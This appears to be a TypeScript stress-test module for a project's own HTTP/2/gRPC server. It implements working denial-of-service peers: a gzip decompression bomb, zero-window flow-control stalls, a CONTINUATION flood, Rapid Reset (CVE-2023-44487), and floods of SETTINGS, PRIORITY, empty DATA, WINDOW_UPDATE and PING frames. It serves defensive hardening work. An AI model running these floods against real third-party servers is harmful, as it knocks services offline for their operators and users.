// The hostile peers of scripts/stress-hostile.ts (issue 12), each one connection from AttackPeer, bounded
// by its frame count and the deadline it is given. Each says what it sent and what the server answered;
// whether that meets the target is the caller's business.
import { createGzip } from "node:zlib";
import { ECHO_STREAM_PATH, EchoMethod } from "../../src/api/echo.ts";
import { ErrorCode } from "../../src/h2/errors.ts";
import { encodeFrame, Flag, FrameType, Setting, writeFrameHeader } from "../../src/h2/frame.ts";
import type { Attack, AttackOutcome } from "./attack.ts";
import { roundTwoAttacks } from "./attacks-round-two.ts";
import { AttackPeer, echoRequestBytes, grpcMessage, requestBlock, type SendOutcome } from "./h2-attacker.ts";

const GIB = 1 << 30;
const MIB = 1 << 20;
/** Waiting this long for a window that does not open means the server stopped taking our bytes. */
const STALL_MS = 3000;
/** After the last byte, the server gets this long to show what it holds. */
const HOLD_MS = 1000;

/** `total` zero bytes through gzip, a MiB at a time, so the plain text never exists whole. */
async function gzipZeros(total: number): Promise<Buffer> {
  const z = createGzip({ level: 9 });
  const parts: Buffer[] = [];
  z.on("data", (d: Buffer) => parts.push(d));
  const ended = new Promise<void>((resolve) => z.on("end", () => resolve()));
  const zeros = Buffer.alloc(MIB);
  for (let sent = 0; sent < total; sent += MIB) {
    if (!z.write(zeros)) await new Promise<void>((resolve) => z.once("drain", () => resolve()));
  }
  z.end();
  await ended;
  return Buffer.concat(parts);
}

function bomb(): Attack {
  let body: Buffer | undefined;
  const BOMBS = 3;
  return {
    name: "gzip-bomb",
    what: `${BOMBS} gzip requests in a row, each 1 GiB of zeros compressed (grpc-encoding: gzip)`,
    target: { rssMB: 200, maxMs: 1000 },
    async prepare() {
      body ??= await gzipZeros(GIB);
    },
    async run(port, deadline) {
      const compressed = body as Buffer;
      const peer = await AttackPeer.connect(port);
      let answered = 0;
      let worst = 0;
      const seen: string[] = [];
      for (let i = 0; i < BOMBS && !peer.refused; i++) {
        const id = 2 * i + 1;
        await peer.headers(id, requestBlock(EchoMethod.path, [["grpc-encoding", "gzip"]]));
        const sent = await peer.data(id, grpcMessage(compressed, true), true, deadline, STALL_MS);
        if (sent !== "sent") {
          seen.push(`bomb ${i + 1}: ${sent}`);
          break;
        }
        const t0 = performance.now();
        if (!(await peer.until(() => peer.statuses.has(id), deadline))) break;
        worst = Math.max(worst, performance.now() - t0);
        const s = peer.statuses.get(id);
        if (s?.status === "8") answered++;
        if (i === 0) seen.push(`grpc-status ${s?.status} "${s?.message}"`);
      }
      peer.close();
      return {
        peer,
        answered: answered === BOMBS,
        answerMs: worst,
        note: `${(compressed.length / MIB).toFixed(2)} MiB compressed each; ${answered}/${BOMBS} RESOURCE_EXHAUSTED; ${seen.join("; ")}`,
      };
    },
  };
}

/** Our SETTINGS_INITIAL_WINDOW_SIZE=0 and never a WINDOW_UPDATE: every response byte must wait in the server. */
function zeroWindowUnary(): Attack {
  const CALLS = 400;
  const PAYLOAD = 256 * 1024;
  return {
    name: "zero-window-unary",
    what: `window 0, no WINDOW_UPDATE; ${CALLS} unary Echo calls of ${PAYLOAD / 1024} KiB (${((CALLS * PAYLOAD) / 1e6).toFixed(0)} MB)`,
    target: { rssMB: 150 },
    async run(port, deadline) {
      const peer = await AttackPeer.connect(port, [[Setting.INITIAL_WINDOW_SIZE, 0]]);
      const message = grpcMessage(echoRequestBytes(PAYLOAD));
      const block = requestBlock();
      const outcomes = new Map<SendOutcome, number>();
      let calls = 0;
      for (; calls < CALLS && !peer.refused && performance.now() < deadline; calls++) {
        const id = 2 * calls + 1;
        await peer.headers(id, block);
        const out = await peer.data(id, message, true, deadline, STALL_MS);
        outcomes.set(out, (outcomes.get(out) ?? 0) + 1);
        if (out === "stalled" || out === "refused") break;
      }
      await holdThenSync(peer, deadline);
      peer.close();
      return { peer, note: `${calls} calls begun; ${describeOutcomes(outcomes)}; ${uploaded(peer)}` };
    },
  };
}

function zeroWindowStream(): Attack {
  const MESSAGES = 100;
  const PAYLOAD = MIB;
  return {
    name: "zero-window-stream",
    what: `window 0, no WINDOW_UPDATE; one EchoStream, ${MESSAGES} messages of 1 MiB (${((MESSAGES * PAYLOAD) / 1e6).toFixed(0)} MB)`,
    target: { rssMB: 150 },
    async run(port, deadline) {
      const peer = await AttackPeer.connect(port, [[Setting.INITIAL_WINDOW_SIZE, 0]]);
      const message = grpcMessage(echoRequestBytes(PAYLOAD));
      await peer.headers(1, requestBlock(ECHO_STREAM_PATH));
      let sent = 0;
      let last: SendOutcome = "sent";
      for (; sent < MESSAGES && performance.now() < deadline; sent++) {
        last = await peer.data(1, message, false, deadline, STALL_MS);
        if (last !== "sent") break;
      }
      if (last === "sent") last = await peer.data(1, Buffer.alloc(0), true, deadline, STALL_MS);
      await holdThenSync(peer, deadline);
      peer.close();
      return { peer, note: `${sent}/${MESSAGES} messages sent, then ${last}; ${uploaded(peer)}` };
    },
  };
}

function continuationFlood(): Attack {
  const COUNT = 5_000_000;
  return {
    name: "continuation-flood",
    what: "HEADERS without END_HEADERS, then 5M empty CONTINUATION frames",
    target: { rssMB: 100, closes: true },
    async run(port, deadline) {
      const peer = await AttackPeer.connect(port);
      await peer.write(encodeFrame(FrameType.HEADERS, 0, 1, requestBlock()), 1);
      const sent = await peer.floodSame(encodeFrame(FrameType.CONTINUATION, 0, 1), COUNT, deadline);
      await peer.until(() => peer.closed, Math.min(deadline, performance.now() + 5000));
      peer.close();
      return { peer, note: `${sent.toLocaleString("en")} CONTINUATIONs written` };
    },
  };
}

function rapidReset(): Attack {
  const COUNT = 100_000;
  return {
    name: "rapid-reset",
    what: "100k × (HEADERS on a new stream, then RST_STREAM CANCEL), CVE-2023-44487",
    target: { goaway: true, maxMs: 250 },
    async run(port, deadline) {
      const peer = await AttackPeer.connect(port);
      const block = requestBlock();
      const pair = Buffer.concat([
        encodeFrame(FrameType.HEADERS, Flag.END_HEADERS, 1, block),
        encodeFrame(FrameType.RST_STREAM, 0, 1, u32(ErrorCode.CANCEL)),
      ]);
      const rstAt = 9 + block.length;
      let pairs = 0;
      await peer.flood(2 * COUNT, deadline, (i) => {
        // Frames come in pairs; each pair is one buffer, so odd i add nothing.
        if (i % 2 === 1) return EMPTY;
        const id = i + 1;
        const f = Buffer.from(pair);
        writeFrameHeader(f, 0, block.length, FrameType.HEADERS, Flag.END_HEADERS, id);
        writeFrameHeader(f, rstAt, 4, FrameType.RST_STREAM, 0, id);
        pairs++;
        return f;
      });
      return finish(peer, deadline, `${pairs.toLocaleString("en")} HEADERS+RST pairs written`);
    },
  };
}

const EMPTY = Buffer.alloc(0);

/** After a flood: whether (and how soon) the server read all of it, if it did not refuse; then close. */
async function finish(peer: AttackPeer, deadline: number, written: string): Promise<AttackOutcome> {
  const t0 = performance.now();
  const synced = peer.refused ? false : await peer.sync(deadline);
  peer.close();
  const caughtUp = synced
    ? `; server read all of it ${(performance.now() - t0).toFixed(0)} ms after the last write`
    : "";
  return { peer, note: `${written}${caughtUp}` };
}

function u32(n: number): Buffer {
  const b = Buffer.allocUnsafe(4);
  b.writeUInt32BE(n, 0);
  return b;
}

/** A flood of one control frame, 1M times; the server answering with GOAWAY is what is looked for. */
function controlFlood(name: string, what: string, frame: Buffer, opensStream = false): Attack {
  const COUNT = 1_000_000;
  return {
    name,
    what: `1M ${what}`,
    target: {},
    async run(port, deadline) {
      const peer = await AttackPeer.connect(port);
      if (opensStream) await peer.headers(1, requestBlock());
      const sent = await peer.floodSame(frame, COUNT, deadline);
      return finish(peer, deadline, `${sent.toLocaleString("en")} written`);
    },
  };
}

async function holdThenSync(peer: AttackPeer, deadline: number): Promise<void> {
  if (!peer.closed) await peer.sync(deadline);
  await Bun.sleep(HOLD_MS);
}

function uploaded(peer: AttackPeer): string {
  return `${(peer.dataBytes / 1e6).toFixed(1)} MB of DATA uploaded`;
}

function describeOutcomes(m: Map<SendOutcome, number>): string {
  return [...m].map(([k, v]) => `${v} ${k}`).join(", ");
}

export function allAttacks(): Attack[] {
  const ping = Buffer.alloc(8);
  return [
    bomb(),
    zeroWindowUnary(),
    zeroWindowStream(),
    continuationFlood(),
    rapidReset(),
    controlFlood("settings-flood", "empty SETTINGS frames", encodeFrame(FrameType.SETTINGS, 0, 0)),
    controlFlood(
      "priority-flood",
      "PRIORITY frames on stream 1",
      encodeFrame(FrameType.PRIORITY, 0, 1, Buffer.from([0, 0, 0, 0, 15])),
    ),
    controlFlood(
      "empty-data-flood",
      "empty DATA frames on an open Echo stream (CVE-2019-9518)",
      encodeFrame(FrameType.DATA, 0, 1),
      true,
    ),
    controlFlood(
      "window-update-flood",
      "WINDOW_UPDATE +1 frames on stream 0",
      encodeFrame(FrameType.WINDOW_UPDATE, 0, 0, u32(1)),
    ),
    controlFlood("ping-flood", "PING frames (no ACK flag)", encodeFrame(FrameType.PING, 0, 0, ping)),
    ...roundTwoAttacks(),
  ];
}
